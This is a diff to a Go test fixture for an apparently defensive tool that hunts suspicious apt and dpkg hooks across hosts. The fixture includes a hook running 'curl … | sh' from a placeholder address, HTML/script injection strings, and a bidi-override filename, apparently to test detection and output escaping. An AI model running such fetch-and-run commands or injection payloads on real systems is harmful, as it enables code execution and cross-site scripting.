@@ -25,6 +25,8 @@ const (
 	hostileCommand = `</script><img src=x onerror="document.title='pwned'"><script>document.title='pwned'</script>`
 	hostilePath    = `/etc/apt/apt.conf.d/99"><svg onload=alert(1)>`
 	hostileHost    = `<img src=y onerror=alert(2)>`
+	// what reorders or hides text: shown escaped, as the terminal shows it
+	hostileBidi = "evil\u202egpj.sh\u200b\u2028\u0007"
 )
 
 // The fixture's clock: the stacks' events (collector/stacks/testdata)
@@ -50,7 +52,7 @@ var dockerClean = store.Row{"manager": "apt", "path": "/etc/apt/apt.conf.d/docke
 //
 // dbrow is triaged by an analyst for every host. The hunt's stacks come
 // from the events in collector/stacks/testdata (hosts h0 to h10, which
-// never ran a hunt).
+// never ran a hunt: they log).
 func fixture(t testing.TB) (*store.DB, Options) {
 	t.Helper()
 	st := storetest.Open(t)
@@ -80,7 +82,7 @@ func fixture(t testing.TB) (*store.DB, Options) {
 	}
 	shared := store.Row{"manager": "apt", "hook": "APT::Update::Pre-Invoke", "command": "curl -s http://203.0.113.9/x | sh", "path": "/etc/apt/apt.conf.d/01update", "line": "3"}
 	dbrow := store.Row{"manager": "dpkg", "hook": "post-invoke", "command": "/usr/local/bin/backup", "path": "/etc/dpkg/dpkg.cfg.d/backup", "line": "7"}
-	hostile := store.Row{"manager": "apt", "hook": "DPkg::Pre-Invoke", "command": hostileCommand, "path": hostilePath, "line": "12"}
+	hostile := store.Row{"manager": "apt", "hook": "DPkg::Pre-Invoke", "command": hostileCommand, "path": hostilePath, "line": "12", "package": hostileBidi}
 	changed := store.Row{"source_table": "apt_hooks", "manager": "apt", "hook": "DPkg::Post-Invoke", "path": "/etc/apt/apt.conf.d/20listchanges", "line": "2",
 		"word": "/usr/bin/apt-listchanges", "how": "command", "via": "", "target": "/usr/bin/apt-listchanges", "resolved": "/usr/bin/apt-listchanges",
 		"package": "apt-listchanges", "package_modified": "1", "sha256": "9f2c4e1d0b8a7c6e5f4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a21"}
@@ -111,7 +113,7 @@ func fixture(t testing.TB) (*store.DB, Options) {
 	if s, err := ingest.Read(ctx, st, f, "hunt"); err != nil || s.Bad != 0 {
 		t.Fatalf("ingest: %+v %v", s, err)
 	}
-	o := Defaults
+	o := Defaults()
 	o.DB, o.Queries, o.Now, o.StacksSince = "fixture.db", qs, now, 3*24*time.Hour
 	return st, o
 }
@@ -119,7 +121,7 @@ func fixture(t testing.TB) (*store.DB, Options) {
 // What the fixture's page must show.
 var (
 	wantStates = map[string]string{"web1": "ok", "web2": "incomplete", "db1": "failed", hostileHost: "ok",
-		"h0": "never hunted", "h10": "never hunted"}
+		"h0": stateLogging, "h10": stateLogging}
 	// host: findings, triaged
 	wantHostFindings = map[string][2]int{"web1": {2, 0}, "web2": {2, 1}, "db1": {1, 1}, hostileHost: {1, 0}}
 	// detection: distinct findings, on hosts, hosts, triaged
